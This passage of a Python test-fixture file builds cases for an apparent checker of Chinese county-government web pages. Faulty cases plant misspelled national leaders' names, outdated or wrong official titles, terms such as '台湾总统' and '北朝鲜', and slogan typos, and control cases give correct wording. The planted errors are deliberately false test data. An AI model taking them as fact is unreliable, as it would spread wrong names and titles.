        "国务院总理李墙4月17日主持召开国务院常务会议，部署进一步做好春耕生产工作。",
        ("李墙",),
    )
    add(
        "w_npc_homophone",
        "modern",
        "县人大常委会传达全国人大会议精神",
        "2026-03-15",
        "十四届全国人大四次会议闭幕，全国人大常委会委员长赵乐记主持闭幕会并发表讲话。",
        ("赵乐记",),
    )
    add(
        "w_cppcc_homophone",
        "trs",
        "县政协召开常委会议",
        "2026-03-20",
        "会议传达了全国政协主席王户宁在全国政协十四届四次会议闭幕会上的讲话精神。",
        ("王户宁",),
    )
    add(
        "w_outdated_premier",
        "hanweb",
        "县政府党组学习政府工作报告",
        "2025-03-10",
        "国务院总理李克强在十四届全国人大三次会议上作政府工作报告，报告总结了过去一年的工作。",
        ("李克强",),
    )
    add(
        "w_wrong_office",
        "table",
        "学习贯彻全国两会精神",
        "2026-03-14",
        "国家副主席李强在会上强调，要坚定不移推动高质量发展。",
        ("李强",),
    )
    add(
        "w_taiwan_president",
        "modern",
        "县台办召开对台工作会议",
        "2026-05-22",
        "会议指出，台湾总统赖清德顽固坚持“台独”分裂立场，妄图“以武谋独”，注定失败。",
        ("台湾总统",),
    )
    add(
        "w_key_phrase_chuxin",
        "trs",
        "县直机关开展主题党日活动",
        "2026-07-01",
        "县直机关工委组织党员干部重温入党誓词，教育引导党员不忘出心、牢记使命。",
        ("不忘出心",),
    )
    add(
        "w_key_phrase_zhuyi",
        "hanweb",
        "县委宣讲团深入基层宣讲",
        "2026-05-08",
        "宣讲团成员围绕坚持和发展中国特色社会主意，结合基层实际进行了深入浅出的宣讲。",
        ("中国特色社会主意",),
    )
    add(
        "w_vice_premier_homophone",
        "table",
        "国务院安委会督导组来我县检查",
        "2026-09-02",
        "国务院副总理张国青近日主持召开安全生产专题会议，我县组织收听收看。",
        ("张国青",),
    )
    add(
        "w_ccdi_homophone",
        "modern",
        "县纪委全会召开",
        "2026-01-20",
        "全会传达学习了中央纪委书记李希在二十届中央纪委五次全会上的工作报告。"
        "中央纪委副书记、国家监委主任刘金国出席。\n会议同时传达了习近平总书记讲话精神。"
        "全会号召，要深入学习李晞书记讲话精神。",
        ("李晞",),
    )
    add(
        "w_outdated_vice_president",
        "trs",
        "县委中心组学习",
        "2024-04-10",
        "国家副主席王岐山出席活动并讲话，我县组织党员干部认真学习。",
        ("王岐山",),
    )
    add(
        "w_north_korea",
        "hanweb",
        "县外办工作情况通报",
        "2026-08-14",
        "县外办提醒，近期前往北朝鲜旅游的群众须注意相关安全事项。",
        ("北朝鲜",),
    )
    add(
        "w_ding_homophone",
        "modern",
        "全国安全生产电视电话会议召开",
        "2026-06-20",
        "中共中央政治局常委、国务院副总理丁雪祥出席会议并讲话。",
        ("丁雪祥",),
    )
    # Controls: correct names and titles, history, local officials, terms used as they should be.
    add(
        "v_long_correct",
        "trs",
        "全县干部群众热议全国两会",
        "2026-03-12",
        "3月5日，十四届全国人大四次会议在北京人民大会堂开幕。中共中央总书记、国家主席、中央军委主席习近平，"
        "国务院总理李强，全国人大常委会委员长赵乐际，全国政协主席王沪宁，中央书记处书记蔡奇，"
        "国务院副总理丁薛祥，中央纪委书记李希，国家副主席韩正出席大会。\n"
        "李强总理代表国务院作政府工作报告。习近平总书记强调，要坚持稳中求进工作总基调。\n"
        "国务院副总理何立峰、张国清、刘国中出席会议。赵乐际委员长主持大会。",
        control="wording",
    )
    add(
        "v_taiwan_correct",
        "hanweb",
        "县台办开展两岸交流活动",
        "2026-05-25",
        "台湾地区领导人赖清德的“台独”言论遭到两岸同胞强烈批评。台湾省同胞与大陆同胞血脉相连。\n"
        "会议指出，民进党当局谋“独”挑衅，台湾地区前领导人马英九率团访问大陆受到欢迎。",
        control="wording",
    )
    add(
        "v_local_officials",
        "table",
        "县委书记李强调研乡村振兴工作",
        "2026-09-10",
        "9月9日，县委书记李强、县长王宁一行深入乡镇调研乡村振兴工作。副县长韩政、县委常委张国庆陪同。\n"
        "李强指出，要持续巩固拓展脱贫攻坚成果。村党支部书记蔡琦同志汇报了合作社发展情况。",
        control="wording",
    )
    add(
        "v_history_titles",
        "modern",
        "县志·大事记",
        "2026-02-01",
        "1998年，国务院总理朱镕基视察我县抗洪救灾工作。2009年，时任国务院总理温家宝来我县考察。\n"
        "民国二十六年（1937年），县城遭日军轰炸。中华民国时期，我县隶属第九行政督察区。",
        control="wording",
    )
    add(
        "v_old_page_old_premier",
        "trs",
        "国务院常务会议精神传达",
        "2021-06-18",
        "国务院总理李克强6月16日主持召开国务院常务会议，部署进一步推进医养结合发展。",
        control="wording",
    )
    add(
        "v_foreign_presidents",
        "hanweb",
        "国际友城代表团来访",
        "2026-07-08",
        "法国总统马克龙、俄罗斯总统普京近日分别发表讲话。韩国总统李在明会见了中国代表团。\n"
        "延边朝鲜族自治州代表团同期来访。",
        control="wording",
    )
    add(
        "v_key_phrases_correct",
        "table",
        "主题教育动员部署会召开",
        "2026-04-02",
        "会议要求，全县党员干部要不忘初心、牢记使命，深刻领悟“两个确立”的决定性意义，"
        "增强“四个意识”、坚定“四个自信”、做到“两个维护”，坚持和发展中国特色社会主义。",
        control="wording",
    )
    add(
        "v_common_names",
        "modern",
        "县人民医院表彰先进个人",
        "2026-05-12",
        "受表彰的先进个人有：刘志强、赵立军、王沪生、李希望、丁学军、习芳、蔡奇峰、张清华。\n"
        "县人民医院院长李晓强为获奖者颁奖。",
        control="wording",
    )
    add(
        "v_old_page_wang",
        "hanweb",
        "县纪委传达中央纪委全会精神",
        "2017-01-12",
        "中共中央政治局常委、中央纪委书记王岐山在十八届中央纪委七次全会上作工作报告。",
        control="wording",
    )
    add(
        "v_comrade_quotes",
        "trs",
        "学习《习近平谈治国理政》第五卷",
        "2026-08-01",
        "习近平同志指出，江山就是人民，人民就是江山。学习习近平同志关于党的建设的重要思想，"
        "全县党员干部深刻体会到习近平新时代中国特色社会主义思想的真理力量。",
        control="wording",
    )
    add(
        "v_premier_pairs",
        "table",
        "国务院第四次廉政工作会议",
        "2026-04-25",
        "国务院总理李强出席并讲话，国务院副总理丁薛祥主持会议。李强强调，要坚持党中央集中统一领导。"
        "会议由丁薛祥同志主持，蔡奇同志出席。",
        control="wording",
    )
    add(
        "v_township_names",
        "modern",
        "乡镇换届选举顺利完成",
        "2026-11-01",
        "新当选的乡长赵乐吉、副乡长王户林、乡人大主席李墙东，镇党委书记丁雪峰当选。",
        control="wording",
    )
    return c


PAGE_CASES: list[Case] = [
    *_hidden_cases(),
    *_script_cases(),
    *_page_controls(),
    *_script_controls(),
    *_wording_cases(),
]
